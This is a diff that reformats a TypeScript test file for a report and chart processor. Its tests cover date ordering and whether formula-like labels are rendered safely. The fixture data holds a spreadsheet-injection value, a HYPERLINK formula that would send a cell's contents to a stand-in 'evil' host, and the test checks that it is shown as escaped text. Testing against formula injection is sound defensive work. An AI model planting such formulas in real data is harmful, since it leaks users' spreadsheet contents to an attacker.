@@ -17,7 +17,8 @@ const FIXTURES = resolve(import.meta.dirname, '../fixtures/checklist');
 /** Every property name a row inherits (own names of each object up its prototype chain). */
 function inherited(row: object): string[] {
   const names: string[] = [];
-  for (let proto = Object.getPrototypeOf(row); proto !== null; proto = Object.getPrototypeOf(proto)) names.push(...Reflect.ownKeys(proto).map(String));
+  for (let proto = Object.getPrototypeOf(row); proto !== null; proto = Object.getPrototypeOf(proto))
+    names.push(...Reflect.ownKeys(proto).map(String));
   return names;
 }
 
@@ -143,9 +144,16 @@ describe('A10: dates', () => {
     expect(problems).toEqual([]);
     expect(dataset!.rows.map((row) => row['published'])).toEqual(['2024-04-13', '2024-04-03', '2023-12-01']);
     const root = join(FIXTURES, folder);
-    const file = new VFile({ value: '::chart{#by-day dataset="input" x="published" y="engagement_rate" type="line" title="By day"}\n', path: join(root, 'content/reports/q3.md') });
+    const file = new VFile({
+      value: '::chart{#by-day dataset="input" x="published" y="engagement_rate" type="line" title="By day"}\n',
+      path: join(root, 'content/reports/q3.md'),
+    });
     const html = String(await createReportProcessor({ root, config: SITE }).process(file));
-    expect([...html.matchAll(/<th scope="row">([^<]*)<\/th>/g)].map((match) => match[1])).toEqual(['2023-12-01', '2024-04-03', '2024-04-13']);
+    expect([...html.matchAll(/<th scope="row">([^<]*)<\/th>/g)].map((match) => match[1])).toEqual([
+      '2023-12-01',
+      '2024-04-03',
+      '2024-04-13',
+    ]);
   });
 });
 
@@ -159,12 +167,20 @@ describe('A12: formula text in a label column', () => {
       ['label', 'category'],
       ['value', 'number'],
     ]);
-    expect(dataset!.rows.map((row) => row['label'])).toEqual(['=HYPERLINK("http://evil/?"&A1,"Click")', '@SUM(A1:A9)', '+1', '-2']);
+    expect(dataset!.rows.map((row) => row['label'])).toEqual([
+      '=HYPERLINK("http://evil/?"&A1,"Click")',
+      '@SUM(A1:A9)',
+      '+1',
+      '-2',
+    ]);
   });
 
   it('A12: shows the formula labels as text in the chart table', async () => {
     const root = join(FIXTURES, folder);
-    const file = new VFile({ value: '::chart{#labels dataset="input" x="label" y="value" type="bar" title="Labels"}\n', path: join(root, 'content/reports/q3.md') });
+    const file = new VFile({
+      value: '::chart{#labels dataset="input" x="label" y="value" type="bar" title="Labels"}\n',
+      path: join(root, 'content/reports/q3.md'),
+    });
     const html = String(await createReportProcessor({ root, config: SITE }).process(file));
     expect(/<tbody>.*<\/tbody>/s.exec(html)![0]).toBe(
       '<tbody><tr><th scope="row">=HYPERLINK("http://evil/?"&#x26;A1,"Click")</th><td>1</td></tr><tr><th scope="row">@SUM(A1:A9)</th><td>2</td></tr><tr><th scope="row">+1</th><td>3</td></tr><tr><th scope="row">-2</th><td>4</td></tr></tbody>',
